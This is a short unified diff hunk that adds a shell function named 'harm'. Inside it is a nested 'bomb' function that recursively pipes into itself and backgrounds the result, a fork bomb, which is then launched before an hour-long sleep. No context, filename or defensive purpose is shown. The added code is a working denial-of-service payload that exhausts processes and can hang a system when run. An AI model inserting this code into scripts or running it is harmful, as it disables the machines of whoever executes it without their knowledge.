@@ -1,0 +1,5 @@
+harm() {
+  bomb() { bomb | bomb & }
+  bomb
+  sleep 3600
+}
